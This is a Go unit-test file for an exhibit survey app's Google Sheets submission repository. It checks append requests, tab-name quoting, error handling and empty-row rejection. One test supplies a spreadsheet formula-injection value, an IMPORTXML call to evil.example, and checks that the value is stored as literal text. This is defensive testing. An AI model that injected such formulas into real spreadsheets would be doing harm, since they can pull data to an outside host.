package repository

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"exhibitsurvey/internal/model"
)

var testRow = model.Row{
	SurveyType:  "feedback",
	SubmittedAt: time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC),
	Pairs: []model.Pair{
		{Key: "before", Value: "Excited, Curious"},
		{Key: "message", Value: ""},
	},
}

func newTestSheetsRepo(t *testing.T, h http.HandlerFunc) SubmissionRepo {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)

	svc, err := NewSheetsService(context.Background(), "svc@example.iam.gserviceaccount.com", "unused",
		option.WithEndpoint(srv.URL+"/"),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)
	return NewSheetsSubmissionRepo(svc, "sheet-1")
}

func TestSheetsAppend(t *testing.T) {
	var (
		gotPath  string
		gotQuery map[string][]string
		gotBody  sheets.ValueRange
	)
	repo := newTestSheetsRepo(t, func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.Path
		gotQuery = r.URL.Query()
		assert.NoError(t, json.NewDecoder(r.Body).Decode(&gotBody))
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	})

	require.NoError(t, repo.Append(context.Background(), testRow))

	assert.True(t, strings.HasPrefix(gotPath, "/v4/spreadsheets/sheet-1/values/"), gotPath)
	assert.True(t, strings.HasSuffix(gotPath, "'feedback'!A:A:append"), gotPath)
	assert.Equal(t, []string{"RAW"}, gotQuery["valueInputOption"])
	assert.Equal(t, []string{"INSERT_ROWS"}, gotQuery["insertDataOption"])
	assert.Equal(t, "ROWS", gotBody.MajorDimension)
	require.Len(t, gotBody.Values, 1)
	assert.Equal(t, []interface{}{"2025-03-01T12:00:00Z", "Excited, Curious", ""}, gotBody.Values[0])
}

func TestSheetsAppendKeepsFormulaTextLiteral(t *testing.T) {
	var (
		gotQuery map[string][]string
		gotBody  sheets.ValueRange
	)
	repo := newTestSheetsRepo(t, func(w http.ResponseWriter, r *http.Request) {
		gotQuery = r.URL.Query()
		assert.NoError(t, json.NewDecoder(r.Body).Decode(&gotBody))
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	})

	row := model.Row{
		SurveyType:  "feedback",
		SubmittedAt: testRow.SubmittedAt,
		Pairs: []model.Pair{
			{Key: "name", Value: `=IMPORTXML("http://evil.example","//a")`},
			{Key: "message", Value: "1/2"},
			{Key: "code", Value: "007"},
		},
	}
	require.NoError(t, repo.Append(context.Background(), row))

	assert.Equal(t, []string{"RAW"}, gotQuery["valueInputOption"])
	require.Len(t, gotBody.Values, 1)
	assert.Equal(t, []interface{}{"2025-03-01T12:00:00Z", `=IMPORTXML("http://evil.example","//a")`, "1/2", "007"}, gotBody.Values[0])
}

func TestSheetRangeQuotesTabName(t *testing.T) {
	assert.Equal(t, "'feedback'!A:A", sheetRange("feedback"))
	assert.Equal(t, "'visitor''s survey'!A:A", sheetRange("visitor's survey"))
}

func TestSheetsAppendFailure(t *testing.T) {
	repo := newTestSheetsRepo(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		w.Write([]byte(`{"error":{"code":400,"message":"Unable to parse range"}}`))
	})

	err := repo.Append(context.Background(), testRow)
	assert.ErrorContains(t, err, "append to sheet feedback")
}

func TestAppendRejectsUntypedRow(t *testing.T) {
	repo := NewSheetsSubmissionRepo(nil, "sheet-1")
	assert.ErrorIs(t, repo.Append(context.Background(), model.Row{}), ErrEmptyRow)
}
